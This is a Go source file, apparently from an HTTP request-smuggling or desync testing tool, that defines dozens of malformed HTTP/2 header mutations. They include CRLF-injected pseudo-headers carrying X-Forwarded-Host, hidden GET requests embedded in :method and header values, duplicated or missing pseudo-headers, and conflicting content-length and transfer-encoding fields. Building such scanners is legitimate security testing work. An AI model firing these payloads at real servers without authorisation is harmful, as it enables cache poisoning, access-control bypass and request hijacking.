package attacks

import (
	"slices"
	"strings"
)

// onList changes the header list of HTTP/2, and nothing over HTTP/1.
func onList(name string, rewrite func(list []field, mark string) []field) change {
	return change{"22", name, func(r *request, mark string) {
		if r.h2 {
			r.list = rewrite(slices.Clone(r.headerList()), mark)
		}
	}}
}

// appending puts fields at the end of the list.
func appending(name string, fields ...field) change {
	return onList(name, func(list []field, mark string) []field {
		for _, f := range fields {
			list = append(list, field{f.name, strings.ReplaceAll(f.value, "MARK", mark)})
		}
		return list
	})
}

// pseudo gives a pseudo-header another value. OLD is the one that it has.
func pseudo(name, value string) change {
	return onList(name+" "+value, func(list []field, mark string) []field {
		for i := range list {
			if list[i].name == name {
				list[i].value = strings.NewReplacer("OLD", list[i].value, "MARK", mark).Replace(value)
			}
		}
		return list
	})
}

// without leaves a pseudo-header out.
func without(name string) change {
	return onList("no "+name, func(list []field, _ string) []field {
		return slices.DeleteFunc(list, func(f field) bool { return f.name == name })
	})
}

// twice adds a pseudo-header once more, before the first or after the last of them.
func twice(name, value string, before bool) change {
	label := "a second " + name
	if before {
		label += " first"
	}
	return onList(label, func(list []field, mark string) []field {
		at := 4
		if before {
			at = 0
		}
		return slices.Insert(list, at, field{name, strings.ReplaceAll(value, "MARK", mark)})
	})
}

var h2Changes = []change{
	pseudo(":path", "OLD MARK"), pseudo(":path", "OLD HTTP/1.1\r\nX-Forwarded-Host: MARK\r\nX: "), pseudo(":path", "MARK"), pseudo(":path", ""),
	pseudo(":path", "OLD#MARK"), pseudo(":path", "http://MARK.example/x"), pseudo(":path", "//MARK.example/x"), pseudo(":path", "OLD\x00MARK"), pseudo(":path", "?OLD"),
	pseudo(":path", "OLD\nMARK"), pseudo(":path", "OLD\t"), pseudo(":path", "\\OLD"),
	pseudo(":method", "GET /hidden/MARK HTTP/1.1\r\nHost: x\r\n\r\nGET"), pseudo(":method", "get"), pseudo(":method", "GET "), pseudo(":method", ""), pseudo(":method", "CONNECT"),
	pseudo(":method", "G\r\nT"),
	pseudo(":scheme", "https"), pseudo(":scheme", "MARK"), pseudo(":scheme", "http://MARK.example/?x="), pseudo(":scheme", ""), pseudo(":scheme", "HTTP"),
	pseudo(":scheme", "http\r\nX-Forwarded-Host: MARK"),
	pseudo(":authority", "MARK.example"), pseudo(":authority", "MARK@OLD"), pseudo(":authority", "OLD:80"), pseudo(":authority", "OLD:MARK"), pseudo(":authority", "OLD/MARK"),
	pseudo(":authority", ""), pseudo(":authority", "OLD\r\nX-Forwarded-Host: MARK"), pseudo(":authority", "OLD."), pseudo(":authority", "OLD MARK"), pseudo(":authority", "OLD,MARK"),
	without(":path"), without(":method"), without(":scheme"), without(":authority"),
	twice(":path", "/MARK", true), twice(":path", "/MARK", false), twice(":method", "POST", true), twice(":method", "POST", false),
	twice(":authority", "MARK.example", true), twice(":authority", "MARK.example", false), twice(":scheme", "https", true), twice(":scheme", "https", false),
	appending("a late :path", field{":path", "/MARK"}), appending("a late :authority", field{":authority", "MARK.example"}),
	appending(":status", field{":status", "200"}), appending(":protocol", field{":protocol", "websocket"}), appending("an unknown pseudo-header", field{":MARK", "x"}),
	appending("host beside :authority", field{"host", "MARK.example"}), appending("host twice", field{"host", "MARK.example"}, field{"host", "x"}),
	onList("host instead of :authority", func(list []field, mark string) []field {
		list = slices.DeleteFunc(list, func(f field) bool { return f.name == ":authority" })
		return append(list, field{"host", mark + ".example"})
	}),
	appending("a name in upper case", field{"X-Forwarded-Host", "MARK.example"}), appending("a name with a blank", field{"x-forwarded-host ", "MARK.example"}),
	appending("a name with a colon", field{"x-forwarded-host: MARK\r\nx", "y"}), appending("an empty name", field{"", "MARK"}),
	appending("a name with a line feed", field{"x\nx-forwarded-host", "MARK"}),
	appending("CRLF in a value", field{"x-a", "b\r\nX-Forwarded-Host: MARK"}), appending("LF in a value", field{"x-a", "b\nX-Forwarded-Host: MARK"}),
	appending("CR in a value", field{"x-a", "b\rMARK"}), appending("NUL in a value", field{"x-a", "b\x00MARK"}),
	appending("a request in a value", field{"x-a", "b\r\n\r\nGET /hidden/MARK HTTP/1.1\r\nHost: x\r\n\r\n"}),
	appending("connection", field{"connection", "x-forwarded-for"}), appending("keep-alive", field{"keep-alive", "MARK"}),
	appending("proxy-connection", field{"proxy-connection", "MARK"}), appending("upgrade", field{"upgrade", "websocket"}),
	appending("transfer-encoding", field{"transfer-encoding", "chunked"}), appending("te", field{"te", "MARK"}), appending("te trailers", field{"te", "trailers"}),
	appending("http2-settings", field{"http2-settings", "MARK"}),
	appending("content-length too long", field{"content-length", "100"}), appending("content-length +", field{"content-length", "+0"}),
	appending("content-length twice", field{"content-length", "0"}, field{"content-length", "5"}), appending("content-length empty", field{"content-length", ""}),
	appending("cookie crumbs", field{"cookie", "theme=dark"}, field{"cookie", "_ga=MARK"}),
	appending("cookie crumbs of two themes", field{"cookie", "theme=dark"}, field{"cookie", "theme=MARK"}),
	appending("a crumb that is cut", field{"cookie", `_ga="1`}, field{"cookie", `lang=MARK"`}),
	appending("early data", field{"early-data", "1"}), appending("a 3 MB list", field{"x-large", strings.Repeat("x", 3<<20)}),
	{"22", "DATA that is longer than said", func(r *request, mark string) {
		if r.h2 {
			r.body = hiddenRequest(r, mark)
			r.list = append(slices.Clone(r.headerList()), field{"content-length", "3"})
		}
	}},
	{"22", "DATA without a length", func(r *request, mark string) {
		if r.h2 {
			r.body = "ref=" + mark
		}
	}},
	{"22", "gone after the head", func(r *request, mark string) {
		if r.h2 {
			r.add("X-M", mark)
			r.cut = true
		}
	}},
}
